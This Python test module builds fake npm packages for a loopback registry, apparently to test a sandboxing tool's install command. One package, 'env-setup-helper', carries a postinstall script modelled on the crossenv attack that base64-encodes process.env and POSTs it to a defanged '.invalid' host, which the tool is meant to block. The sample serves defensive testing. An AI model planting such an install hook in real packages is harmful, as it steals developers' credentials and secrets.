"""A project that npm resolves against the loopback registry (a temporary .npmrc points npm at it), and the
packages `airlock install` adds there, built by the tests from source text."""

from __future__ import annotations

import json
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from tests.fakes.registry import FakeRegistry
from tests.fakes.tarballs import build_package

OLD = datetime.now(UTC) - timedelta(days=200)

EXFILTRATION = (
    "const http = require('http');\nconst querystring = require('querystring');\n"
    "const env = JSON.stringify(process.env);\n"
    "const data = Buffer.from(env).toString('base64');\n"
    "const postData = querystring.stringify({ data });\n"
    "const req = http.request({ host: 'npm.hacktask.invalid', port: 80, path: '/log/', method: 'POST' });\n"
    "req.write(postData);\nreq.end();\n"
)
"""crossenv's install-time env theft, defanged (the host is under .invalid)."""

BUILD_SCRIPT = (
    "const fs = require('fs');\nconst path = require('path');\n"
    "fs.writeFileSync(path.join(__dirname, 'built.txt'), 'built by postinstall\\n');\n"
    "console.log('builder: built');\n"
)
"""A postinstall that writes only inside its own package directory (what the sandbox allows)."""


@dataclass(frozen=True, slots=True)
class Project:
    root: Path
    registry: FakeRegistry

    def manifest(self) -> dict[str, object]:
        data = json.loads((self.root / "package.json").read_text())
        assert isinstance(data, dict)
        return data

    def snapshot(self) -> dict[str, bytes]:
        """Every file of the project (node_modules included), by relative path."""
        return {
            str(p.relative_to(self.root)): p.read_bytes() for p in sorted(self.root.rglob("*")) if p.is_file()
        }


def publish(
    registry: FakeRegistry, name: str, version: str, files: dict[str, str], **manifest: object
) -> None:
    tarball = build_package(name, version, files, **manifest)
    registry_manifest = {k: v for k, v in manifest.items() if k in ("dependencies", "scripts")}
    registry.publish(name, version, tarball, manifest=registry_manifest or None, time=OLD)


@pytest.fixture
def project(fake_registry: FakeRegistry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Project:
    """`app` depending on `calm`, its .npmrc pointing at the loopback registry, which also serves:
    `netty` (uses https), `builder` (a postinstall writing into its own directory), `withdep` (depends on
    calm and on `helper`), `loader` (a postinstall requiring a computed name: review), `failer` (a
    postinstall that fails) and `env-setup-helper` (crossenv's env theft at install: blocked)."""
    registry = fake_registry
    publish(registry, "calm", "1.0.0", {"index.js": "module.exports = 1;\n"})
    publish(registry, "calm", "1.1.0", {"index.js": "module.exports = 2;\n"})
    publish(registry, "netty", "2.0.0", {"index.js": "require('https').get('https://example.com/');\n"})
    publish(
        registry,
        "builder",
        "1.0.0",
        {"index.js": "module.exports = 'builder';\n", "build.js": BUILD_SCRIPT},
        scripts={"postinstall": "node build.js"},
    )
    publish(registry, "helper", "1.0.0", {"index.js": "module.exports = require('os').platform();\n"})
    publish(
        registry,
        "withdep",
        "1.0.0",
        {"index.js": "module.exports = [require('calm'), require('helper')];\n"},
        dependencies={"calm": "^1.0.0", "helper": "^1.0.0"},
    )
    publish(
        registry,
        "env-setup-helper",
        "1.0.0",
        {"package-setup.js": EXFILTRATION, "index.js": "module.exports = {};\n"},
        scripts={"postinstall": "node package-setup.js"},
    )
    publish(
        registry,
        "loader",
        "1.0.0",
        {"index.js": "module.exports = 1;\n", "i.js": "const m = process.argv[2];\nrequire(m);\n"},
        scripts={"postinstall": "node i.js"},
    )
    publish(
        registry,
        "failer",
        "1.0.0",
        {"index.js": "module.exports = 1;\n", "fail.js": "process.exitCode = 1;\n"},
        scripts={"postinstall": "node fail.js"},
    )
    root = tmp_path / "app"
    root.mkdir()
    (root / "package.json").write_text(
        json.dumps({"name": "app", "version": "1.0.0", "dependencies": {"calm": "1.0.0"}}, indent=2) + "\n"
    )
    (root / ".npmrc").write_text(f"registry={registry.url}\n")
    monkeypatch.chdir(tmp_path)
    return Project(root, registry)
